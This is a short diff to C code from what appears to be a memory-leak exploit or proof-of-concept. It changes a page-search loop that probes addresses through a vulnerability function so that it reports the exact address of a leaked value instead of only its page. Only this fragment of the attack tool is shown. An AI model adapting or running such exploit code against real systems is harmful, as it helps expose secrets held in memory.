@@ -50,7 +50,7 @@ static bool search(uint64_t address, const struct bw_leak *leak)
 {
 	unsigned long nr_pages = 0;
 	uint64_t found, value;
-	long status;
+	long status, offset;
 
 	while ((status = bw_vuln_probe(address, &found)) == 0) {
 		if (found != address) {
@@ -58,8 +58,9 @@ static bool search(uint64_t address, const struct bw_leak *leak)
 		}
 		read_page(found);
 		nr_pages++;
-		if (find_in_page(leak, &value) >= 0) {
-			attack_say("page 0x%lx holds 0x%lx", found, value);
+		offset = find_in_page(leak, &value);
+		if (offset >= 0) {
+			attack_say("0x%lx holds 0x%lx", found + (uint64_t)offset, value);
 			return true;
 		}
 		memcpy(window.carry, window.page + BW_PAGE_SIZE - 8, sizeof(window.carry));
